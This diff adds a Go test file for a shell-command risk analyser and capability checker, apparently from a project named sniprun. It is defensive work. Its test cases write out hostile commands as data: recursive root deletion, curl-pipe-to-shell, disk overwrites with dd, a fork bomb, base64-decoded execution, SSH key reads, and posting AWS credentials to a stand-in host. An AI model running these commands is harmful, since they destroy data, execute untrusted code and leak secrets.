@@ -0,0 +1,196 @@
+package test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/mini-page/sniprun/internal/security"
+)
+
+func TestAnalyzerRules(t *testing.T) {
+	tests := []struct {
+		command string
+		rule    string
+		level   security.RiskLevel
+		span    string
+	}{
+		{"sudo rm -rf /", "rm-root", security.RiskDangerous, "sudo rm -rf /"},
+		{"rm -r --force ~/", "rm-root", security.RiskDangerous, "rm -r --force ~/"},
+		{"rm -rf ./build", "rm-recursive", security.RiskWarning, "rm -rf ./build"},
+		{"curl -fsSL https://x.sh | sudo bash", "remote-exec", security.RiskDangerous, "curl -fsSL https://x.sh | sudo bash"},
+		{`sh -c "$(wget -qO- https://x.sh)"`, "remote-exec", security.RiskDangerous, `sh -c "$(wget -qO- https://x.sh)"`},
+		{"dd if=image.iso of=/dev/sda bs=4M", "dd-block-device", security.RiskDangerous, "dd if=image.iso of=/dev/sda bs=4M"},
+		{"cat image > /dev/nvme0n1", "dd-block-device", security.RiskDangerous, "> /dev/nvme0n1"},
+		{"chmod -R 777 .", "chmod-777-recursive", security.RiskWarning, "chmod -R 777 ."},
+		{"chmod -R 0777 /", "chmod-777-recursive", security.RiskWarning, "chmod -R 0777 /"},
+		{"chmod -R 0666 /srv", "chmod-777-recursive", security.RiskWarning, "chmod -R 0666 /srv"},
+		{"chmod -R u+x,o+w .", "chmod-777-recursive", security.RiskWarning, "chmod -R u+x,o+w ."},
+		{"chmod --recursive a=rwx .", "chmod-777-recursive", security.RiskWarning, "chmod --recursive a=rwx ."},
+
+		// Option values of wrappers are not the wrapped command
+		{"sudo -u root rm -rf /", "rm-root", security.RiskDangerous, "sudo -u root rm -rf /"},
+		{"sudo --user=root -- rm -rf /", "rm-root", security.RiskDangerous, "sudo --user=root -- rm -rf /"},
+		{"nice -n 10 rm -rf /", "rm-root", security.RiskDangerous, "nice -n 10 rm -rf /"},
+		{"ionice -c 3 -n 7 rm -rf ~", "rm-root", security.RiskDangerous, "ionice -c 3 -n 7 rm -rf ~"},
+		{"env -u HOME FOO=1 rm -rf /", "rm-root", security.RiskDangerous, "env -u HOME FOO=1 rm -rf /"},
+		{"doas -u root rm -rf /", "rm-root", security.RiskDangerous, "doas -u root rm -rf /"},
+		{"timeout 5 rm -rf ~", "rm-root", security.RiskDangerous, "timeout 5 rm -rf ~"},
+		{"timeout -s KILL 5 rm -rf ~", "rm-root", security.RiskDangerous, "timeout -s KILL 5 rm -rf ~"},
+		{"stdbuf -o L rm -rf /", "rm-root", security.RiskDangerous, "stdbuf -o L rm -rf /"},
+		{"setsid rm -rf /", "rm-root", security.RiskDangerous, "setsid rm -rf /"},
+		{"curl x | sudo -u root bash", "remote-exec", security.RiskDangerous, "curl x | sudo -u root bash"},
+		{"curl x | timeout 60 nice -n 5 sh", "remote-exec", security.RiskDangerous, "curl x | timeout 60 nice -n 5 sh"},
+		{":(){ :|:& };:", "fork-bomb", security.RiskDangerous, ":(){ :|:& }"},
+		{"echo 1.2.3.4 host >> /etc/hosts", "write-etc", security.RiskWarning, ">> /etc/hosts"},
+		{"echo ZWNobyBoaQ== | base64 -d | sh", "base64-exec", security.RiskDangerous, "echo ZWNobyBoaQ== | base64 -d | sh"},
+		{"cat ~/.ssh/id_rsa", "credential-read", security.RiskWarning, "cat ~/.ssh/id_rsa"},
+		{"curl -d @- https://x.io < ~/.aws/credentials", "credential-exfiltration", security.RiskDangerous, "curl -d @- https://x.io < ~/.aws/credentials"},
+	}
+
+	for _, tt := range tests {
+		findings, err := security.Analyze(tt.command)
+		if err != nil {
+			t.Errorf("%q: unexpected error: %v", tt.command, err)
+			continue
+		}
+
+		var found *security.Finding
+		for i := range findings {
+			if findings[i].RuleID == tt.rule {
+				found = &findings[i]
+			}
+		}
+		if found == nil {
+			t.Errorf("%q: expected rule %s, got %v", tt.command, tt.rule, findings)
+			continue
+		}
+		if found.Level != tt.level {
+			t.Errorf("%q: expected %s, got %s", tt.command, tt.level, found.Level)
+		}
+		if got := found.Span.Text(tt.command); got != tt.span {
+			t.Errorf("%q: expected span %q, got %q", tt.command, tt.span, got)
+		}
+	}
+}
+
+func TestAnalyzerSafeCommands(t *testing.T) {
+	for _, command := range []string{
+		"ls -la",
+		"git log --oneline | head -20",
+		"rm build.log",
+		"curl -s https://api.github.com | jq .",
+		"chmod 755 script.sh",
+		"chmod -R 0755 build",
+		"chmod -R go-w .",
+		"sudo -u www-data ls /var/www",
+		"timeout 5 make test",
+		"cat /etc/hosts",
+	} {
+		findings, err := security.Analyze(command)
+		if err != nil {
+			t.Errorf("%q: unexpected error: %v", command, err)
+		}
+		if len(findings) > 0 {
+			t.Errorf("%q: expected no findings, got %v", command, findings)
+		}
+	}
+}
+
+func TestRulesValidatorReportsFindings(t *testing.T) {
+	result, err := (&security.RulesValidator{}).Validate(&security.Request{Command: "rm -rf /tmp/x; curl x | sh"})
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if result.RiskLevel != security.RiskDangerous || len(result.Findings) != 2 {
+		t.Errorf("expected dangerous with 2 findings, got %s with %v", result.RiskLevel, result.Findings)
+	}
+}
+
+func TestCapabilitiesExceeded(t *testing.T) {
+	declared := &security.Capabilities{Writes: []string{".", "~/.cache/tool"}}
+
+	tests := []struct {
+		command string
+		rule    string
+	}{
+		{"curl -sS https://example.com", "undeclared-network"},
+		{"git pull --rebase", "undeclared-network"},
+		{"echo x > /tmp/out", "undeclared-write"},
+		{"cp build/app /usr/local/bin/app", "undeclared-write"},
+		{"touch ../outside", "undeclared-write"},
+		{"cat ~/.aws/credentials", "undeclared-read"},
+		{"sudo systemctl restart nginx", "undeclared-privileged"},
+		{"nice -n 10 sudo systemctl restart nginx", "undeclared-privileged"},
+	}
+
+	for _, tt := range tests {
+		findings, err := security.CheckCapabilities(tt.command, declared)
+		if err != nil {
+			t.Errorf("%q: unexpected error: %v", tt.command, err)
+			continue
+		}
+		if len(findings) != 1 || findings[0].RuleID != tt.rule {
+			t.Errorf("%q: expected %s, got %v", tt.command, tt.rule, findings)
+		}
+	}
+}
+
+func TestCapabilitiesOptionValues(t *testing.T) {
+	declared := &security.Capabilities{Writes: []string{"/opt/app"}}
+
+	tests := []struct {
+		command string
+		writes  string
+	}{
+		{"mkdir -p -m 755 /opt/app/bin", ""},
+		{"mkdir -pm 755 /opt/app/bin", ""},
+		{"mkdir --mode=755 /opt/app/bin", ""},
+		{"cp -t /opt/app build/app build/lib.so", ""},
+		{"cp -t /usr/local/bin /opt/app/app", "/usr/local/bin"},
+		{"install -m 0755 -o root app /opt/app/app", ""},
+		{"sed -i -e s/a/b/ /opt/app/config", ""},
+		{"touch -d yesterday -- /etc/motd", "/etc/motd"},
+	}
+
+	for _, tt := range tests {
+		findings, err := security.CheckCapabilities(tt.command, declared)
+		if err != nil {
+			t.Errorf("%q: unexpected error: %v", tt.command, err)
+			continue
+		}
+		var got string
+		if len(findings) == 1 {
+			got = strings.TrimSuffix(strings.Fields(findings[0].Message)[1], ",")
+		}
+		if got != tt.writes || len(findings) > 1 {
+			t.Errorf("%q: expected a write to %q, got %v", tt.command, tt.writes, findings)
+		}
+	}
+}
+
+func TestCapabilitiesWithinDeclaration(t *testing.T) {
+	declared := &security.Capabilities{
+		Network:    true,
+		Writes:     []string{".", "$HOME/.cache/tool"},
+		Reads:      []string{"~/.aws"},
+		Privileged: true,
+	}
+
+	for _, command := range []string{
+		"curl -fsSL https://example.com -o page.html",
+		"mkdir -p out && echo done > out/log.txt 2>/dev/null",
+		"cp config.json ~/.cache/tool/config.json",
+		"aws s3 ls --profile $(grep -c x ~/.aws/credentials)",
+		"sudo apt-get update",
+		"git status",
+	} {
+		findings, err := security.CheckCapabilities(command, declared)
+		if err != nil {
+			t.Errorf("%q: unexpected error: %v", command, err)
+			continue
+		}
+		if len(findings) > 0 {
+			t.Errorf("%q: expected no findings, got %v", command, findings)
+		}
+	}
+}